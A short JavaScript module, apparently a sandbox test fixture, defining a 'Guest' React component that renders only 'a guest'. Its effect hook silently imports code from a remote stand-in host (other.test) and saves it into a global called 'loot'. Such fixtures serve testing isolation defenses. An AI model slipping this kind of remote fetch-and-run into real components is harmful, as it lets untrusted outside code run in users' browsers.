import { useEffect } from '/api/widget-runtime/react.js';

export default function Guest() {
  useEffect(() => {
    void import('http://other.test/more.js').then((more) => (globalThis.loot = [more.default]));
  }, []);
  return 'a guest';
}
